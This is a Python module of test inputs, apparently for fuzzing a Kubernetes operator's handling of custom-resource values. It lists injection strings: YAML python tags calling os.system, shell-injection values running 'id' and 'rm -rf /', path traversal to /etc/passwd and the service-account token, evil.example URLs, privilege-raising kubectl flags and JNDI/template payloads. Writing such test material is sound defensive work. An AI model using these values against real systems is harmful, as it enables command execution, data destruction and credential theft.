"""Values that a custom resource's author may write in the hope that somebody takes them for more than a text.

Each family has values made by hand and, where a family has a rule, those that the rule gives.
"""

from itertools import product

HARMLESS = "harmless-value"
"""What stands where the others are compared with."""

YAML = [
    "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!binary aGk=", "!<tag:yaml.org,2002:int> 1",
    "&anchor x", "*anchor", "&a [*a]", "<<: *a", "<<", "{<<: {a: b}}", "%YAML 1.1", "%TAG ! tag:evil,2000:", "---",
    "--- x", "...", "\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: evil}\n", "\n...\n---\nkind: Namespace\n",
    "x\n---\n", "---\n---\n", "- a\n- b", "a: b", "a:\n  b: c", "? a\n: b", "|\n  x", ">-\n  x", "|2-\n   x", "# x",
    "x # y", "x: # y", "'", "''", '"', '""', '"\n"', "'\n'", "\\", "\\n", "\\x41", "\\u0041", "\\\n", "{}", "[]", "{",
    "}", "[", "]", ",", "{a: b}", "[a, b]", '{"a": "b"}', '"a": "b"', "`", "@at", "|", ">", "%", "!", "&", "*", "?",
    "? ", "-", "- ", ":", ": ", "=", "~", "null", "Null", "NULL", "", " ", "  ", "\t", "\n", "\n\n", "a\n", "a\n\n",
    "\na", "\n a", " \na", "\n  a\n b\n", "  a\nb", "a \nb", "a\n\tb", "\ta", "a\t", "a ", " a", "a\r", "a\rb", "\r\n",
    "a\r\nb\r\n", "\r\na",
]  # fmt: skip

NORWAY = [
    *(cased for word in ("y", "n", "yes", "no", "on", "off", "true", "false") for cased in (word, word.upper())),
    "True", "No", "Off",
]  # fmt: skip

NUMBERS = [
    "0", "-0", "+1", "1", "007", "0o17", "0045691", "08", "0x1F", "0b101", "1_000", "1e3", "1E400", "-1e-3", ".5", "5.",
    "1.0", "1.10", ".inf", "-.Inf", ".nan", "NaN", "Infinity", "12:30", "190:20:30", "1:2.5", "18446744073709551616",
    "9223372036854775808", "2026-11-21", "2026-11-21T10:00:00Z", "2026-11-21 10:00:00", "1.2.3", "0.", "e3", "0x", "0_",
]  # fmt: skip

UNICODE = [
    "\ufeff", "\ufeffa", "a\ufeff", "a\u2028b", "a\u2029b", "\u2028", "\u00a0", "\u00a0a", "\u3000", "\u200b",
    "\u202eabc",
    "\ufffd", "\ue000", "\U0001f600", "\U0001fffe", "\U0010ffff", "Здравствуй, мир", "日本語", "e\u0301", "\u00e9",
    "\u0131", "\u212a8s", "\uff0e\uff0e\uff0f", "\u2025/", "\u0130", "a\u0300" * 40,
]  # fmt: skip
"""Those that YAML cannot hold are refused; see `UNWRITABLE`."""

UNWRITABLE = [
    "\x00", "a\x00b", "../../etc/passwd\x00.yaml", "\x07", "\x08", "\x0b", "\x0c", "\x1b[2J", "\x1b]0;x\x07", "\x7f",
    "\x80", "\x85", "a\x85b", "\x9b31m", "\x9f", "\ufffe", "\uffff",
]  # fmt: skip
"""Characters that YAML does not take, or kubectl changes."""

PATCHES = [
    "/", "~", "~0", "~1", "~01", "~1spec~1replicas", "/spec/replicas", "/-", "-", "/metadata/name", "..", "../..",
    "/..",
    "metadata.name", "spec.[name=web].x", "[name=main]", "*", "a/b~1c~0d",
    "/metadata/labels/nuvop.nuvolaris.org~1owner",
    '[{"op": "remove", "path": "/spec"}]', '{"op": "replace", "path": "/kind", "value": "Secret"}',
    "- op: remove\n  path: /spec\n", '", "op": "remove", "path": "/spec',
]  # fmt: skip

FILES = [
    *("".join(parts) for parts in product(("", "/", "./", "../../", "../../../../../../"), ("etc/passwd", "..", "."))),
    "..\\..\\windows", "file:///etc/passwd", "https://evil.example/x.yaml", "github.com/evil/base?ref=main",
    "git::ssh://git@evil.example/x", "ssh://-oProxyCommand=id/x", "ext::sh -c id", "kustomization.yaml", ".nuvop.lock",
    ".kinds", ".new", "/proc/self/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token", "~root", "$HOME",
    "a" * 256,
    "a" * 4096, "a/" * 300, "é" * 300, "con", "a" * 70_000,
]  # fmt: skip

SHELL = [
    *(mark.format(command) for command in ("id", "rm -rf /") for mark in (
        "; {}", "| {}", "& {}", "&& {}", "|| {}", "`{}`", "$({})", "${{IFS}}{}", "\n{}\n", "'; {}; '",
    '"; {}; "', "<({})",
    )),
    "$(cat /etc/passwd)", "${HOME}", "$HOME", "$$", "!!", "$((1+1))", "\\`id\\`", ">/tmp/x", "*.yaml", "?", "~",
]  # fmt: skip

ARGV = [
    "--kubeconfig=/tmp/evil", "--kubeconfig", "-o yaml", "-o", "-k", "-f", "-", "--", "--server=https://evil.example",
    "--token=x", "--as=system:admin", "--as-group=system:masters", "-n kube-system", "--namespace=kube-system",
    "--field-manager=evil", "--prune", "--prune-allowlist=core/v1/Secret", "--all", "--force", "--v=9", "-v=9",
    "--insecure-skip-tls-verify", "--enable-helm", "--enable-alpha-plugins", "--load-restrictor=LoadRestrictionsNone",
    "--context=evil", "--request-timeout=0", "--dry-run=server", "@/etc/passwd", "--output=jsonpath={.data}",
]  # fmt: skip

TEMPLATES = [
    "{{.Values.x}}", "{{ .data }}", "{{`x`}}", '{{ include "x" . }}', "{{- end -}}",
    '{{ env "PATH" }}', "{{range .}}{{end}}",
    "{% include x %}", "${jndi:ldap://evil}", "<%= 1 %>", "#{1}", "%s", "%(x)s", "{0}", "{0.__class__}", "{}", "%n%n%n",
]  # fmt: skip

KUSTOMIZE = [
    "$patch: delete", "$patch", "delete", "$patch: replace", "$setElementOrder/containers", "$retainKeys",
    "$deleteFromPrimitiveList/finalizers", "$(TEXT)", "$(SERVICE_NAME)", "$$(TEXT)", "$(HOME)", "$(", "$()", "$(web)",
    '# {"$openapi":"x"}', "# {\"$ref\":\"x\"}", "config.kubernetes.io/local-config",
    "kustomize.config.k8s.io/needs-hash",
    "internal.config.kubernetes.io/previousNames",
]  # fmt: skip

NUVOP = [
    "{name}", "{namespace}", "{uid}", "web.{namespace}", "http://web.{namespace}.svc", "web", "settings", "holder",
    "case-1-web", "case-2-settings", "case-1-", "http://web", "web:80", "nuvop", "nuvop.nuvolaris.org/owner",
    "nuvop.nuvolaris.org/instance", "nuvop.nuvolaris.org/adopt", "nuvop.nuvolaris.org/deletion-policy: Orphan",
    "app.kubernetes.io/managed-by", "victims-case-1", "00000000-0000-0000-0000-000000000001", "(secret)",
]  # fmt: skip

OBJECTS = [
    "metadata.namespace", "metadata:\n  namespace: kube-system", "kube-system", "kube-system/web", "default",
    "finalizers", '["kubernetes"]', "ownerReferences", "metadata.ownerReferences", "cluster-admin",
    "system:serviceaccount:kube-system:default", "ClusterRole/cluster-admin", "Secret/token", "managedFields",
]  # fmt: skip

ALL = list(dict.fromkeys(
    [*YAML, *NORWAY, *NUMBERS, *UNICODE, *PATCHES, *FILES, *SHELL, *ARGV, *TEMPLATES, *KUSTOMIZE, *NUVOP, *OBJECTS]
))  # fmt: skip

NO_KEYS = ["", "<<", "a\u2028b", "a\u2029b", "\u2028", "a" * 1023, "é" * 1100, "a" * 4096, "a" * 70_000]
"""What a list of members cannot be called: YAML or kustomize takes it for something else, or does not take it."""

DIRECTIVES = ["$patch", "$retainKeys", "$setElementOrder/containers", "$deleteFromPrimitiveList/finalizers"]
"""Keys by which a strategic merge patch says what to do; `patches.py` gives such patches."""

KUSTOMIZES = [
    "internal.config.kubernetes.io/needsHashSuffix", "internal.config.kubernetes.io/previousNames",
    "config.kubernetes.io/local-config", "config.kubernetes.io/function", "kustomize.config.k8s.io/needs-hash",
    "config.k8s.io/owning-inventory", "nuvop.nuvolaris.org/recreate", "nuvop.nuvolaris.org/delete",
]  # fmt: skip
"""Annotations by which kustomize, or nuvop, is told what to do with an object."""
